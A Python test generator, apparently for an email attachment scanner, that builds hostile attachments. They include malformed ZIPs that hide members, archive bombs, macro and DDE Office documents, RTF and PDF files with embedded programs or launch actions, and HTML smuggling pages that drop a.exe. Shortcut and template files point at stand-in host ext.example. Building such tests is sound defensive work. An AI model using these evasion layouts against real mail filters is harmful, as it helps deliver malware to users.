# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile attachments: ATT-01 to ATT-14."""

import base64
import bz2
import gzip
import lzma
import struct
import zlib

import build
import ole2
import payloads
import zips
from build import b64
from cases import Variant, file
from payloads import EICAR, RELATION, RELS
from zips import Member, archive, end_record

EXE = payloads.exe()
INFECTED, PROGRAM = ['infected'], ['type:exe']


def both(name, make, container='report.zip'):
    """With EICAR and with a program."""
    for payload, data, words in (('eicar', EICAR, INFECTED), ('exe', EXE, PROGRAM)):
        yield Variant(f'{name}, {payload}', (container, make(data)), words=words)


@file('ATT-01')
def zip_layouts():
    good = zips.simple((b'readme.txt', b'hello'))
    evil = lambda data: zips.simple((b'report.dat', data))
    hidden = lambda data: Member(b'report.dat', data)
    shown = Member(b'readme.txt', b'hello')

    def hole(data, **more):
        return archive([shown, hidden(data)], listed=[shown], **more)

    def directory_of(data, **more):
        body = shown.local() + hidden(data).local()
        central = shown.central(0)
        return body, central, more

    layouts = {
        'good then evil': lambda d: good + evil(d),
        'evil then good': lambda d: evil(d) + good,
        'bytes before': lambda d: b'x' * 100 + evil(d),
        'bytes behind': lambda d: evil(d) + b'x' * 100,
        'bytes behind, many': lambda d: evil(d) + b'x' * 70000,
        'bytes before, counted': lambda d: b'x' * 100 + archive([hidden(d)], base=100),
        'a member that no directory names': hole,
        'a member between, that no directory names': lambda d: archive([hidden(d), shown], listed=[shown]),
        'a gap between': lambda d: archive([shown, hidden(d)], gap=b'gap!'),
        'no directory': lambda d: archive([hidden(d)], directory=False, end=False),
        'no end record': lambda d: archive([hidden(d)], end=False),
        'an empty directory': lambda d: archive([hidden(d)], listed=[]),
        'entries 0': lambda d: evil(d)[:-22] + end_record(0, len(hidden(d).central(0)), len(hidden(d).local())),
        'an end record in the comment': lambda d: archive([hidden(d)], comment=good),
        'the archive in the comment': lambda d: archive([shown], comment=evil(d)),
        'an empty end record in the comment': lambda d: archive([hidden(d)], comment=end_record(0, 0, 0)),
        'two end records': lambda d: evil(d) + end_record(0, 0, 0),
        'a wrong directory offset': lambda d: archive([hidden(d)], offset_error=10),
        'a wrong directory offset, far': lambda d: archive([hidden(d)], offset_error=100000),
        'a wrong count': lambda d: evil(d)[:-22] + end_record(2, len(hidden(d).central(0)), len(hidden(d).local())),
        'a wrong member offset': lambda d: archive([Member(b'report.dat', d, offset=5)]),
        'another member at the offset': lambda d: archive([shown, Member(b'report.dat', d, offset=0)]),
        'an offset to a hidden member': lambda d: archive([Member(
            b'report.dat', d), Member(b'readme.txt', b'hello', offset=0)], listed=[Member(b'readme.txt', b'hello', offset=0)]),
        'stored': lambda d: archive([Member(b'report.dat', d, 0)]),
        'a spanning mark first': lambda d: b'PK\7\x08' + archive([hidden(d)], base=4),
        'PK00 first': lambda d: b'PK00' + archive([hidden(d)], base=4),
        'a directory before the members': lambda d: shown.central(0) + archive([hidden(d)], base=len(shown.central(0))),
        'cut short': lambda d: evil(d)[:-30],
        'two directories': lambda d: archive([hidden(d), shown], listed=[shown]) + b'',
        'an archive in the gap': lambda d: archive([shown, Member(b'b.txt', b'x')], gap=evil(d)),
    }
    for name, make in layouts.items():
        yield from both(name, make)
    yield Variant('an end record with a huge comment length', ('report.zip', zips.simple(
        (b'report.dat', EICAR))[:-2] + b'\xff\xff'), words=INFECTED)


@file('ATT-02')
def zip_disagreements():
    for name, more in {
            'names, the local one shown': dict(local_name=b'readme.txt', central_name=b'report.dat'),
            'method stored in the directory': dict(central_method=0),
            'method stored in the local header': dict(local_method=0),
            'an unknown method in the directory': dict(central_method=99),
            'an unknown method in the local header': dict(local_method=77),
            'size 0 in the directory': dict(central_csize=0, central_size=0),
            'size 0 in the local header': dict(local_csize=0, local_size=0),
            'small in the directory': dict(central_csize=2, central_size=2),
            'small in the local header': dict(local_csize=2, local_size=2),
            'a wrong sum': dict(crc=1),
            'a wrong sum in the directory': dict(central_crc=1),
            'a wrong sum in the local header': dict(local_crc=1),
            'a name with a slash behind': dict(name=b'report.dat/'),
            'a directory by attributes': dict(attributes=0o40755),
            'a link by attributes': dict(attributes=0o120777),
            'no name': dict(name=b''),
            'a Unicode path': dict(extra=struct.pack('<HHBI', 0x7075, 5 + 10, 1, zlib.crc32(b'report.dat')) + b'readme.txt'),
            'extra bytes that are too long': dict(extra=b'\1\0\xff\xff'),
            'a ZIP64 size': dict(central_csize=0xffffffff, central_size=0xffffffff),
    }.items():
        more = dict(more)
        member_name = more.pop('name', b'report.dat')
        yield from both(name, lambda d, more=more, member_name=member_name: archive([Member(member_name, d, **more)]))
    for name, names in {'exe only in the local header': (b'a.exe', b'a.txt'),
                        'exe only in the directory': (b'a.txt', b'a.exe')}.items():
        yield Variant(name, ('report.zip', archive([Member(b'x', b'hello', local_name=names[0], central_name=names[1])])),
                      words=['ending:exe', 'type:exe'])
    unicode_path = struct.pack('<HHBI', 0x7075, 5 + 5, 1, zlib.crc32(b'a.txt')) + b'a.exe'
    yield Variant('exe only in the Unicode path', ('report.zip', archive([Member(b'a.txt', b'hello', extra=unicode_path)])),
                  words=['ending:exe', 'type:exe'])
    twins = lambda d: archive([Member(b'report.dat', b'hello'), Member(b'report.dat', d)])
    yield from both('the same name twice', twins)
    yield from both('the same name twice, evil first',
                    lambda d: archive([Member(b'report.dat', d), Member(b'report.dat', b'hello')]))
    for name in (b'../../report.dat', b'/etc/report.dat', b'C:\\report.dat', b'a/../report.dat', b'report.dat\0.txt',
                 b'report.dat ', b'\\\\host\\report.dat'):
        yield from both(f'name {name.decode()!r}', lambda d, name=name: archive([Member(name, d)]))

    def described(data, signature=b'PK\7\x08', wrong=False):
        packed = Member(b'', data).packed
        tail = signature + struct.pack('<III', zlib.crc32(data), 5 if wrong else len(packed), len(data))
        return archive([Member(b'report.dat', data, flags=8, local_crc=0, local_csize=0, local_size=0, descriptor=tail)])

    yield from both('a data descriptor', described)
    yield from both('a data descriptor without its mark', lambda d: described(d, b''))
    yield from both('a data descriptor that is wrong', lambda d: described(d, wrong=True))


@file('ATT-03')
def encryption():
    secret = lambda **more: archive([Member(b'report.dat', EXE, 0, packed=zips.zipcrypto(EXE), **more)])
    yield Variant('ZipCrypto', ('report.zip', secret(flags=1)), words=['mark:encrypted'])
    yield Variant('ZipCrypto, flag in the local header only', ('report.zip', secret(local_flags=1)), words=['mark:encrypted'])
    yield Variant('ZipCrypto, flag in the directory only', ('report.zip', secret(central_flags=1)), words=['mark:encrypted'])
    yield Variant(
        'ZipCrypto, beside a plain member',
        ('report.zip', archive([Member(b'a.txt', b'hello'),
                                Member(b'report.dat', EXE, 0, packed=zips.zipcrypto(EXE), flags=1)])), words=['mark:encrypted'])
    yield Variant(
        'AES', ('report.zip',
                archive([Member(b'report.dat', EXE, 99, packed=bytes(range(40)), flags=1, extra=b'\1\x99\7\0\2\0AE\3\x08\0')])),
        words=['mark:encrypted'])
    yield Variant('strong encryption',
                  ('report.zip', archive([Member(b'report.dat', EXE, 0, packed=bytes(range(40)), flags=0x41)])),
                  words=['mark:encrypted'])
    for side in ('local', 'central'):
        yield from both(f'a flag that lies, {side}',
                        lambda d, side=side: archive([Member(b'report.dat', d, **{side + '_flags': 1})]))
    yield from both('a flag that lies, both', lambda d: archive([Member(b'report.dat', d, flags=1)]))
    yield Variant('RAR', ('report.rar', zips.rar4(b'report.dat', bytes(range(64)), flags=4)), words=['mark:encrypted'])
    yield Variant('RAR with an encrypted directory',
                  ('report.rar', b'Rar!\x1a\x07\x00' + b'\xce\x99\x73\x80\x00\x0d' + bytes(6) + bytes(range(200))),
                  words=['mark:encrypted'])
    yield Variant('RAR 5 with an encrypted directory',
                  ('report.rar', b'Rar!\x1a\x07\x01\x00' + struct.pack('<I', zlib.crc32(b'\x21\x04\0\0\0\x0f' + bytes(28))) +
                   b'\x21\x04\0\0\0\x0f' + bytes(28) + bytes(range(200))), words=['mark:encrypted'])
    info = {'EncryptionInfo': b'\4\0\4\0\x40\0\0\0<encryption/>', 'EncryptedPackage': bytes(range(256)) * 8}
    yield Variant('an encrypted DOCX', ('report.docx', ole2.compound(info)), words=['mark:encrypted'])
    yield Variant('an encrypted workbook', ('report.xls', payloads.xls((0x2f, b'\1\0\1\0\1\0' + bytes(48)))),
                  words=['mark:encrypted'])
    yield Variant('an encrypted PDF',
                  ('report.pdf', payloads.pdf(b'<</Filter/Standard/V 2/R 3/O(%s)/U(%s)/P -4>>' % (b'a' * 32, b'b' * 32)).replace(
                      b'/Root 1 0 R', b'/Root 1 0 R/Encrypt 4 0 R/ID[<00><00>]')), words=['mark:encrypted'])


def _overlapping():
    """Members whose directory records all point to one local header (as in Fifield's bomb, in small)."""
    kernel = Member(b'a', bytes(1 << 20))
    listed = [Member(b'm%04d' % i, bytes(1 << 20), packed=kernel.packed, local_name=b'a') for i in range(2000)]
    body = kernel.local()
    central = b''.join(member.central(0) for member in listed)
    return body + central + end_record(len(listed), len(central), len(body))


def _nested(data, depth, pack):
    for _ in range(depth):
        data = pack(data)
    return data


LIMITED = []  # nothing in particular: any limit or ambiguity will do


@file('ATT-04')
def bombs():
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b''.join(zeros.compress(bytes(1 << 20)) for _ in range(500)) + zeros.flush()
    yield Variant('500 MB of zeros', ('report.zip', archive([Member(b'zeros', b'', packed=packed, size=500 << 20, crc=0)])),
                  words=LIMITED)
    yield Variant('overlapping members', ('report.zip', _overlapping()), words=LIMITED)
    yield Variant('30,000 members', ('report.zip', archive([Member(b'%d' % i, b'', 0) for i in range(30000)])), words=LIMITED)
    for depth in (5, 15, 17, 18, 19, 20, 25, 50):
        yield Variant(f'nested {depth} deep', ('report.zip', _nested(EICAR, depth, lambda data: zips.simple((b'a.dat', data)))),
                      words=INFECTED)
        yield Variant(f'gzip {depth} deep', ('report.gz', _nested(EICAR, depth, lambda data: gzip.compress(data, mtime=0))),
                      words=INFECTED)
    zipped = zips.simple(*[(b'%d' % i, bytes(1 << 22)) for i in range(16)])
    for level in range(3):
        zipped = zips.simple(*[(b'%d.zip' % i, zipped + bytes([level, i])) for i in range(16)])
    yield Variant('like 42.zip', ('report.zip', zipped), words=LIMITED)
    for name, pack in (('gzip', lambda data: gzip.compress(data, mtime=0)), ('bzip2', bz2.compress), ('xz', lzma.compress)):
        yield Variant(f'160 MB of zeros, {name}', ('report.' + name, pack(bytes(8 << 20)) * 20), words=LIMITED)
    yield Variant('PDF, Flate in Flate', ('report.pdf',
                                          payloads.pdf(
                                              payloads.pdf_stream(zlib.compress(zlib.compress(bytes(200 << 20)))).replace(
                                                  b'/FlateDecode', b'[/FlateDecode/FlateDecode/FlateDecode]'))),
                  words=LIMITED + ['clean'])


@file('ATT-05')
def archives():
    for name, container, make in (('RAR 4', 'report.rar', zips.rar4), ('RAR 5', 'report.rar', zips.rar5),
                                  ('7z', 'report.7z', zips.seven_zip), ('CAB', 'report.cab', zips.cab), ('LZH', 'report.lzh',
                                                                                                         zips.lzh),
                                  ('ARJ', 'report.arj', zips.arj), ('TAR', 'report.tar', lambda n, d: zips.tar(
                                      (n, d))), ('TAR.GZ', 'report.tgz', lambda n, d: gzip.compress(zips.tar(
                                          (n, d)), mtime=0)), ('TAR.BZ2', 'report.tbz', lambda n, d: bz2.compress(zips.tar(
                                              (n, d)))), ('TAR.XZ', 'report.txz', lambda n, d: lzma.compress(zips.tar(
                                                  (n, d)))), ('CPIO', 'report.cpio', lambda n, d: zips.cpio(
                                                      (n, d))), ('gzip', 'report.gz', lambda n, d: gzip.compress(d, mtime=0)),
                                  ('bzip2', 'report.bz2', lambda n, d: bz2.compress(d)), ('xz', 'report.xz',
                                                                                          lambda n, d: lzma.compress(d)),
                                  ('lzma', 'report.lzma', lambda n, d: lzma.compress(d, lzma.FORMAT_ALONE)),
                                  ('two gzip streams', 'report.gz',
                                   lambda n, d: gzip.compress(b'hello', mtime=0) + gzip.compress(d, mtime=0)),
                                  ('a program before a RAR', 'report.dat', lambda n, d: EXE + zips.rar4(n, d)),
                                  ('a program before a 7z', 'report.dat',
                                   lambda n, d: EXE + zips.seven_zip(n, d)), ('bytes before a RAR', 'report.rar',
                                                                              lambda n, d: b'x' * 100 + zips.rar4(n, d)),
                                  ('AR', 'report.a', lambda n, d: b'!<arch>\n' + b'%-16s%-12d%-6d%-6d%-8o%-10d`\n' %
                                   (n, 0, 0, 0, 0o644, len(d)) + d + b'\n' *
                                   (len(d) % 2)), ('TAR, as a link', 'report.tar', lambda n, d: zips.tar(
                                       (n, d), kind=b'2')), ('TAR, in a second end', 'report.tar', lambda n, d: zips.tar(
                                           (b'a.txt', b'hello')) + zips.tar(
                                               (n, d))), ('7z in a ZIP', 'report.zip', lambda n, d: zips.simple(
                                                   (b'a.7z', zips.seven_zip(n, d))))):
        reason = 'a link has no bytes for tar' if name == 'TAR, as a link' else ''
        yield from (variant._replace(no_client=reason)
                    for variant in both(name, lambda d, make=make: make(b'report.dat', d), container))
        yield from (variant._replace(no_client=reason)
                    for variant in both(f'{name} by another name', lambda d, make=make: make(b'report.dat', d),
                                        'report.txt' if name != 'gzip' else 'report.dat'))
        yield from both(f'{name}, two bytes behind', lambda d, make=make: make(b'report.dat', d) + b'\r\n',
                        container) if name != 'TAR, as a link' else ()
    images = {
        'ISO': (zips.iso(b'REPORT.DAT', EXE), 'iso'), 'VHD': (payloads.vhd(), 'vhd'),
        'VHDX': (b'vhdxfile'.ljust(70000, b'\0'), 'vhdx'), 'WIM': (b'MSWIM\0\0\0\xd0'.ljust(4096, b'\0'), 'wim'),
        'UDF': (bytes(32768) + b'\0BEA01\1'.ljust(2048, b'\0') + b'\0NSR02\1'.ljust(2048, b'\0') +
                b'\0TEA01\1'.ljust(2048, b'\0'), 'udf'), 'DMG': (bytes(4096) + b'koly\0\0\0\4\0\0\2\0'.ljust(512, b'\0'), 'dmg'),
        'VMDK': (b'KDMV\1\0\0\0'.ljust(4096, b'\0'), 'vmdk'), 'QCOW': (b'QFI\xfb\0\0\0\3'.ljust(4096, b'\0'), 'qcow'),
        'FAT image': ((b'\xeb\x3c\x90MSDOS5.0\0\2\1\1\0\2\xe0\0\x40\x0b\xf0\x09\0\x12\0\2\0'.ljust(54, b'\0') +
                       b'FAT12   ').ljust(510, b'\0') + b'\x55\xaa' + bytes(4096), 'img'), 'MSI': (payloads.msi(), 'msi'),
        'CHM': (payloads.chm(), 'chm'), 'HLP': (b'?_\3\0'.ljust(512, b'\1'), 'hlp')
    }
    for name, (data, kind) in images.items():
        for container in ('report.dat', 'report.pdf', 'report.' + kind):
            yield Variant(f'{name} as {container}', (container, data), words=[f'type:{kind}', f'ending:{kind}'])
        yield Variant(f'{name} in a ZIP', ('report.zip', zips.simple((b'report.dat', data))), words=[f'type:{kind}'])


KINDS = {  # what its bytes show
    'exe': EXE, 'elf': payloads.elf(), 'macho': payloads.macho(), 'lnk': payloads.lnk(), 'hta': payloads.HTA, 'onenote': payloads.ONENOTE.ljust(2048, b'\0'),
    'js': payloads.JS, 'wsf': b'<job id="a"><script language="JScript">WScript.Echo("hello");</script></job>\r\n', 'sct': (b'<?XML version="1.0"?><scriptlet><registration progid="a" classid="{0}"></registration><script language="JScript">'
            b'x()</script></scriptlet>\r\n'),
    'encoded_script': b'#@~^EAAAAA==\x7fU0\xab4&\x0eV+^^G\x18^#~@', 'vbs': b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc.exe"\r\n', 'bat': b'@echo off\r\nstart calc.exe\r\n', 'ps1': b'powershell -NoProfile -EncodedCommand JABhAD0AMQA=\r\n', 'shell': b'#!/bin/sh\necho hello\n',
    'reg': b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"a"="b"\r\n', 'inf': b'[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n', 'url': b'[InternetShortcut]\r\nURL=file://ext.example/a.exe\r\n', 'scf': b'[Shell]\r\nCommand=2\r\nIconFile=\\\\ext.example\\a.ico\r\n',
    'search_ms': b'<?xml version="1.0"?><persistedQuery version="1.0"><viewInfo/></persistedQuery>\r\n', 'library_ms': (b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>'
            b'a</name></libraryDescription>\r\n'), 'rdp': b'screen mode id:i:2\r\nfull address:s:ext.example\r\nremoteapplicationmode:i:1\r\n',
    'settingcontent': (b'<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">'
            b'<ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>'
            b'\r\n'),
    'msc': b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>\r\n', 'theme': b'[Theme]\r\nDisplayName=a\r\n[VisualStyles]\r\nPath=\\\\ext.example\\a\r\n', 'desktop': b'[Desktop Entry]\nType=Application\nExec=calc\n', 'webloc': b'<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>file:///a</string></dict></plist>\n',
    'iqy': b'WEB\r\n1\r\nhttp://ext.example/a\r\n', 'slk': b'ID;P\r\nC;X1;Y1;E EXEC("calc")\r\nE\r\n', 'jar': zips.simple((b'META-INF/MANIFEST.MF', b'Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n'), (b'A.class', b'\xca\xfe\xba\xbe\0\0\0\x34')), 'class': b'\xca\xfe\xba\xbe\0\0\0\x34\0\1\0\0', 'wasm': b'\0asm\1\0\0\0',
    'swf': b'FWS\6\x20\0\0\0' + bytes(24), 'deb': b'!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n', 'rpm': b'\xed\xab\xee\xdb\3\0\0\0'.ljust(96, b'\0') + b'\x8e\xad\xe8\1', 'dex': b'dex\n035\0' + bytes(104), 'pyc': b'\xa7\r\r\n' + bytes(12) + b'\xe3',
}
# Their bytes are text of no mark of its own, or of a kind that is allowed: only a name makes Windows run them.
BY_NAME = {
    'js', 'vbs', 'bat', 'ps1', 'iqy', 'slk', 'desktop', 'shell', 'rdp', 'theme', 'webloc', 'onenote', 'pyc', 'inf', 'search_ms',
    'library_ms', 'settingcontent', 'msc', 'scf', 'sct'
}
ENDINGS = ('exe dll scr pif com cpl sys ocx xll wll msi msp mst js jse vbs vbe wsf wsh hta bat cmd ps1 psm1 sct '
           'reg inf lnk url scf search-ms library-ms settingcontent-ms appref-ms website rdp theme iqy jar '
           'iso img vhd vhdx udf dmg wim chm hlp msc diagcab application gadget vb ws msh msh1 msh2 scriptletx webloc '
           'desktop apk deb rpm ade adp mde').split()


@file('ATT-06')
def dangerous_kinds():
    for kind, data in KINDS.items():
        ending = {
            'encoded_script': 'jse', 'library_ms': 'library-ms', 'search_ms': 'search-ms', 'settingcontent': 'settingcontent-ms',
            'macho': 'bin', 'elf': 'bin', 'shell': 'sh', 'onenote': 'one'
        }.get(kind, kind)
        words = [f'type:{kind}', f'ending:{ending}']
        if kind in ('onenote', 'slk', 'pyc', 'deb', 'rpm', 'macho'):
            words.append('clean')  # seen, but nothing that everybody refuses
        if kind not in BY_NAME:
            yield Variant(f'{kind} by its bytes', ('report.dat', data), words=words)
            yield Variant(f'{kind} as a picture', ('report.png', data), words=words)
            yield Variant(f'{kind} by its bytes in a ZIP', ('report.zip', zips.simple((b'report.dat', data))), words=words)
        yield Variant(f'{kind} by its name', (f'report.{ending}', data), words=words)
        yield Variant(f'{kind} by its name in a ZIP', ('report.zip', zips.simple((b'report.' + ending.encode(), data))),
                      words=words)
    for ending in ENDINGS:
        yield Variant(
            f'ending {ending}', (f'report.{ending}', b'hello\r\n'), words=[f'ending:{ending}'] +
            (['clean'] if ending in ('scriptletx', 'deb', 'rpm', 'apk', 'ade', 'adp', 'mde', 'gadget', 'msh', 'msh1', 'msh2',
                                     'ws', 'vb', 'website', 'application', 'psm1', 'mst', 'msp') else []))


@file('ATT-07')
def office_packages():
    macros = ['mark:macros']
    yield Variant('docm', ('report.docm', payloads.docm()), words=macros)
    yield Variant('docm called docx', ('report.docx', payloads.docm()), words=macros)
    yield Variant('docm that says docx', ('report.docx', payloads.docm(kind=payloads.PLAIN_DOCUMENT)), words=macros)
    yield Variant('vbaProject.bin by another name', ('report.docx', payloads.docm(b'word/image1.png')), words=macros)
    yield Variant('vbaProject.bin by another name, no relation',
                  ('report.docx', payloads.word([(b'word/thing.bin', ole2.compound(payloads.vba()))])), words=macros)
    yield Variant('bytes before', ('report.docm', b'x' * 64 + payloads.docm()), words=macros)
    yield Variant('docm in a ZIP', ('report.zip', zips.simple((b'report.docx', payloads.docm()))), words=macros)
    for name, kind in (('template', b'attachedTemplate'), ('frame', b'frame'), ('object', b'oleObject'), ('picture', b'image'),
                       ('subdocument', b'subDocument')):
        relation = RELS % (RELATION, kind, b'http://ext.example/a.dotm', b' TargetMode="External"')
        words = ['mark:external'] + (['clean'] if name == 'picture' else [])
        yield Variant(f'an external {name}', ('report.docx', payloads.word(relation=relation)), words=words)
        yield Variant(f'an external {name}, in UTF-16',
                      ('report.docx', payloads.word(relation=relation.decode().encode('utf-16'))), words=words)
        yield Variant(f'an external {name}, single quotes', ('report.docx', payloads.word(relation=relation.replace(b'"', b"'"))),
                      words=words)
    yield Variant(
        'an OLE object with a program',
        ('report.docx', payloads.word([(b'word/embeddings/oleObject1.bin', ole2.compound({'\x01Ole10Native': _native(EXE)}))])),
        words=['type:exe', 'mark:object'])
    yield Variant('a program as a member', ('report.docx', payloads.word([(b'word/media/image1.png', EXE)])), words=['type:exe'])
    yield Variant('a member with EICAR', ('report.docx', payloads.word([(b'word/media/image1.bin', EICAR)])), words=INFECTED)


def _native(data, name=b'a.exe'):
    body = struct.pack('<H', 2) + name + b'\0C:\\' + name + b'\0' + struct.pack(
        '<HHI', 0, 3,
        len(name) + 4) + b'C:\\' + name + b'\0' + struct.pack('<I', len(data)) + data
    return struct.pack('<I', len(body)) + body


@file('ATT-08')
def office_files():
    yield Variant('doc with macros', ('report.doc', payloads.doc(Macros=payloads.vba())), words=['mark:macros'])
    yield Variant(
        'xls with macros',
        ('report.xls', ole2.compound({'Workbook': b'\x09\x08\x10\0\0\6\5\0' + bytes(60), '_VBA_PROJECT_CUR': payloads.vba()})),
        words=['mark:macros'])
    yield Variant('xls with a macro sheet', ('report.xls', payloads.xls((0x85, struct.pack('<IBBB', 0, 0, 1, 2) + b'\0M1'))),
                  words=['mark:macros'])
    yield Variant('xls with a hidden macro sheet', ('report.xls', payloads.xls(
        (0x85, struct.pack('<IBBB', 0, 2, 1, 2) + b'\0M1'))), words=['mark:macros'])
    yield Variant('VBA stomped',
                  ('report.doc',
                   payloads.doc(Macros={'VBA': {'_VBA_PROJECT': b'\xcc\x61' + bytes(60), 'ThisDocument': b'\1' + bytes(99)}})),
                  words=['mark:macros'])
    yield Variant('doc with a program', ('report.doc', payloads.doc(ObjectPool={'_1': {'\x01Ole10Native': _native(EXE)}})),
                  words=['type:exe', 'mark:object'])
    yield Variant('doc with the equation editor',
                  ('report.doc', payloads.doc(ObjectPool={'_1': {'Equation Native': b'\x1c\0\0\0\2\0' + bytes(60)}})),
                  words=['mark:object'])
    yield Variant('a macro document called rtf', ('report.rtf', payloads.doc(Macros=payloads.vba())), words=['mark:macros'])
    body = ole2.compound({'\x01Ole10Native': _native(EXE)}).hex().encode()
    objdata = (b'{\\*\\objdata 0105000002000000080000005061636b61676500' + b'0000000000000000' +
               struct.pack('<I',
                           len(body) // 2).hex().encode())
    plain = b'{\\rtf1\\ansi{\\object\\objemb\\objupdate' + objdata + b'%s}}}'
    for name, text in {
            'rtf with an object': plain % body,
            'rtf with blanks in the object': plain % b' '.join(body[i:i + 3] for i in range(0, len(body), 3)),
            'rtf with groups in the object': plain % b'{\\x}'.join(body[i:i + 2] for i in range(0, len(body), 2)),
            'rtf with a short head': (plain % body).replace(b'{\\rtf1', b'{\\rt', 1),
            'rtf with \\bin': b'{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata \\bin%d %s}}}' %
        (len(body) // 2, bytes.fromhex(body.decode())),
            'rtf with 10,000 groups': b'{\\rtf1' + b'{' * 10000 + (plain % body)[6:] + b'}' * 10000,
            'rtf with capital letters': plain % body.upper(), 'rtf with an unknown word': plain % (b'\\zzz1 ' + body)
    }.items():
        yield Variant(name, ('report.rtf', text), words=['type:exe', 'mark:object', 'mark:launch'])
        yield Variant(name + ', called doc', ('report.doc', text), words=['type:exe', 'mark:object', 'mark:launch'])
    yield Variant('DDE field',
                  ('report.docx',
                   zips.simple(
                       (b'[Content_Types].xml', payloads.TYPES % payloads.PLAIN_DOCUMENT),
                       (b'_rels/.rels', RELS % (RELATION, b'officeDocument', b'word/document.xml', b'')),
                       (b'word/document.xml',
                        payloads.DOCUMENT.replace(b'<w:r>', b'<w:r><w:instrText>DDEAUTO c:\\\\a.exe</w:instrText></w:r><w:r>')))),
                  words=['mark:external', 'mark:launch'])


@file('ATT-09')
def pdf_files():
    script = b'<</S/JavaScript/JS(app.alert\\(1\\))>>'
    embedded = lambda data: payloads.pdf(payloads.pdf_stream(data, b'/Type/EmbeddedFile'
                                                             ), b'<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>', catalog=
                                         b'/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>')
    marks = ['mark:script', 'mark:launch']
    yield Variant('script', ('a.pdf', payloads.pdf(script, catalog=b'/OpenAction 4 0 R')), words=marks)
    yield Variant(
        'script, escaped name',
        ('a.pdf',
         payloads.pdf(script.replace(b'/JavaScript', b'/J#61vaScript').replace(b'/JS', b'/J#53'), catalog=b'/OpenAction 4 0 R')),
        words=marks)
    yield Variant('script in names', ('a.pdf', payloads.pdf(script, catalog=b'/Names<</JavaScript<</Names[(a)4 0 R]>>>>')),
                  words=marks)
    yield Variant('launch', ('a.pdf', payloads.pdf(b'<</S/Launch/F(cmd.exe)>>', catalog=b'/OpenAction 4 0 R')),
                  words=['mark:launch'])
    yield Variant('header at 1,000', ('a.pdf', b' ' * 1000 + payloads.pdf(script, catalog=b'/OpenAction 4 0 R')), words=marks)
    stream = b'5 0 ' + script
    yield Variant('script in an object stream',
                  ('a.pdf', payloads.pdf(payloads.pdf_stream(stream, b'/Type/ObjStm/N 1/First 4'), catalog=b'/OpenAction 5 0 R')),
                  words=marks)
    for name, data, words in (('EICAR', EICAR, INFECTED), ('a program', EXE, PROGRAM + ['mark:object'])):
        yield Variant(f'embedded {name}', ('a.pdf', embedded(data)), words=words)
        yield Variant(f'embedded {name}, stored',
                      ('a.pdf', payloads.pdf(b'<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream' % (len(data), data))),
                      words=words)
        yield Variant(f'embedded {name}, hexadecimal',
                      ('a.pdf',
                       payloads.pdf(b'<</Type/EmbeddedFile/Filter/ASCIIHexDecode/Length %d>>stream\n%s>\nendstream' %
                                    (2 * len(data) + 1, data.hex().encode()))), words=words)
        yield Variant(
            f'embedded {name}, ASCII 85',
            ('a.pdf',
             payloads.pdf(b'<</Type/EmbeddedFile/Filter/ASCII85Decode>>stream\n%s\nendstream' % base64.a85encode(data) + b'~>')),
            words=words + ['mark:object'])
    broken = payloads.pdf(script, catalog=b'/OpenAction 4 0 R').replace(b'xref\n', b'xxxx\n')
    yield Variant('no table', ('a.pdf', broken), words=marks)
    yield Variant('a table that points to itself',
                  ('a.pdf', payloads.pdf(script, catalog=b'/OpenAction 4 0 R').replace(b'/Root 1', b'/Prev %d/Root 1' % 400)),
                  words=marks)
    yield Variant('without its version', ('a.pdf', payloads.pdf(script, header=b'%PDF-\n', catalog=b'/OpenAction 4 0 R')),
                  words=marks)


@file('ATT-10')
def onenote_files():
    for name in ('a.one', 'a.txt', 'a.dat'):
        yield Variant(f'a program in a section, {name}', (name, payloads.onenote(EXE)), words=PROGRAM)
        yield Variant(f'EICAR in a section, {name}', (name, payloads.onenote(EICAR)), words=INFECTED)
        yield Variant(f'HTA in a section, {name}', (name, payloads.onenote(payloads.HTA)), words=['type:hta'])


@file('ATT-11')
def smuggling():
    page, words = payloads.SMUGGLE, ['mark:builds-file', 'type:exe']
    coded = base64.b64encode(EXE)
    yield Variant('Blob and atob', ('a.html', page), words=words)
    yield Variant('Blob and atob, .htm', ('a.htm', page), words=words)
    yield Variant('Blob and atob, no name of HTML', ('a.dat', page), words=words)
    yield Variant('msSaveBlob', ('a.html', page.replace(b'a.click()', b'navigator.msSaveBlob(blob, "a.exe")')), words=words)
    yield Variant(
        'a data URL',
        ('a.html', b'<html><a download="a.exe" href="data:application/octet-stream;base64,' + coded + b'">x</a></html>'),
        words=words)
    yield Variant('a data URL in percents', ('a.html', b'<html><a download="a.exe" href="data:application/octet-stream,' +
                                             b''.join(b'%%%02x' % byte for byte in EXE) + b'">x</a></html>'), words=words)
    yield Variant('an iframe of data',
                  ('a.html', b'<html><iframe src="data:text/html;base64,' + base64.b64encode(page) + b'"></iframe></html>'),
                  words=words)
    yield Variant('a meta refresh to data',
                  ('a.html', b'<html><meta http-equiv="refresh" content="0;url=data:application/x-msdownload;base64,' + coded +
                   b'"></html>'), words=words)
    yield Variant('an array of numbers',
                  ('a.html', b'<html><script>var a=new Uint8Array([' + b','.join(b'%d' % byte for byte in EXE) +
                   (b']);var b=new Blob([a]);var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="a.exe";'
                    b'l.click()</script></html>')), words=words)
    yield Variant('in a ZIP', ('a.zip', zips.simple((b'a.html', page))), words=words)
    yield Variant('SVG with script',
                  ('a.svg', b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
                  words=['mark:script'])
